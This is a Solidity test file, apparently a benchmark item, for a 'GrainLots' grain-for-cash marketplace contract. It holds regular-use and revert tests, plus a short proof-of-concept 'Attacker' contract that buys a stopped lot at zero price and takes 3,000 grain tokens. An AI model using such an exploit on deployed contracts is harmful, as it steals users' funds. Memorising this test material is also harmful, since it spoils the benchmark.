// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./GrainLots.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-7d1992d5-bd65-4416-89c8-f9521ea780b3

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private maker = msg.sender;

    function mint(address a, uint256 n) external {
        require(msg.sender == maker, "maker");
        _mint(a, n);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Coin public grain;
    Coin private cash;
    GrainLots private lots;
    Attacker private mallory;

    function setUp() public {
        grain = new Coin();
        cash = new Coin();
        lots = new GrainLots(grain, cash);
        farmer(ANA);
        farmer(BEN);
        cash.mint(CAT, 10_000e18);
        vm.prank(CAT);
        cash.approve(address(lots), type(uint256).max);
        vm.startPrank(ANA);
        lots.put(1_000e18, 2e18);
        lots.put(3_000e18, 3e18);
        lots.stop(1);
        vm.stopPrank();
        vm.prank(BEN);
        lots.put(2_000e18, 2.5e18);
        mallory = new Attacker(lots);
    }

    function farmer(address a) private {
        grain.mint(a, 5_000e18);
        vm.prank(a);
        grain.approve(address(lots), type(uint256).max);
    }

    function n(uint256 i) private view returns (uint256 left) {
        (, left) = lots.lots(i);
    }

    function test_Regular() public {
        require(lots.open() == 2 && n(1) == 3_000e18, "two for sale");
        (bool on, uint256 p) = lots.priceOf(1);
        require(!on && p == 0, "not for sale");
        vm.startPrank(CAT);
        lots.buy(0, 100e18, 200e18);
        require(grain.balanceOf(CAT) == 100e18 && cash.balanceOf(CAT) == 9_800e18, "bought");
        require(lots.due(ANA) == 196e18 && lots.cuts() == 4e18, "due");
        lots.buy(0, 1, 2);
        require(cash.balanceOf(CAT) == 9_800e18 - 2, "rounded up");
        vm.stopPrank();
        vm.startPrank(ANA);
        lots.price(1, 4e18);
        (uint256 i, uint256 q) = lots.priceAt(2);
        require(i == 1 && q == 4e18 && lots.open() == 3, "for sale again");
        lots.add(1, 500e18);
        lots.take(1, 3_000e18);
        lots.give(1, BEN);
        lots.pull();
        require(cash.balanceOf(ANA) == 196e18 + 2 && grain.balanceOf(ANA) == 3_500e18, "pulled");
        vm.stopPrank();
        vm.prank(CAT);
        lots.buy(1, 500e18, 2_000e18);
        require(lots.due(BEN) == 1_960e18 && n(1) == 0, "sold out");
        lots.pullCuts(address(this));
        require(cash.balanceOf(address(this)) == 44e18 && lots.cuts() == 0, "cuts");
        vm.prank(BEN);
        lots.stop(2);
        lots.transferOwnership(ANA);
        vm.prank(ANA);
        lots.renounceOwnership();
    }

    function test_RefusesSellers() public {
        vm.expectRevert(GrainLots.Off.selector);
        new GrainLots(grain, grain);
        vm.startPrank(ANA);
        vm.expectRevert(GrainLots.Zero.selector);
        lots.put(0, 1);
        vm.expectRevert(GrainLots.Zero.selector);
        lots.put(1, 0);
        vm.expectRevert(GrainLots.Zero.selector);
        lots.price(0, 0);
        vm.expectRevert(GrainLots.Zero.selector);
        lots.add(0, 0);
        vm.expectRevert(GrainLots.Off.selector);
        lots.stop(1);
        vm.expectRevert(GrainLots.Zero.selector);
        lots.give(0, address(0));
        vm.expectRevert(GrainLots.Few.selector);
        lots.take(0, 1_000e18 + 1);
        vm.expectRevert(GrainLots.Few.selector);
        lots.take(0, 0);
        vm.expectRevert(GrainLots.Zero.selector);
        lots.pull();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert(GrainLots.Who.selector);
        lots.add(0, 1);
        vm.expectRevert(GrainLots.Who.selector);
        lots.take(0, 1);
        vm.expectRevert(GrainLots.Who.selector);
        lots.price(0, 1);
        vm.expectRevert(GrainLots.Who.selector);
        lots.stop(0);
        vm.expectRevert(GrainLots.Who.selector);
        lots.give(0, BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        lots.pullCuts(BEN);
        vm.stopPrank();
        vm.expectRevert(GrainLots.Zero.selector);
        lots.pullCuts(address(0));
    }

    function test_RefusesBuyers() public {
        vm.startPrank(CAT);
        vm.expectRevert(GrainLots.Few.selector);
        lots.buy(0, 0, 0);
        vm.expectRevert(GrainLots.Few.selector);
        lots.buy(0, 1_000e18 + 1, 10_000e18);
        vm.expectRevert(GrainLots.Dear.selector);
        lots.buy(0, 1e18, 2e18 - 1);
        vm.stopPrank();
        vm.expectRevert("ERC20: insufficient allowance");
        lots.buy(0, 1e18, 2e18);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(grain.balanceOf(address(mallory)) == 3_000e18, "gain");
    }

    function target() public view returns (address) {
        return address(lots);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    GrainLots private lots;

    constructor(GrainLots l) {
        lots = l;
    }

    function run() external {
        lots.buy(1, 3_000e18, 0);
    }
}
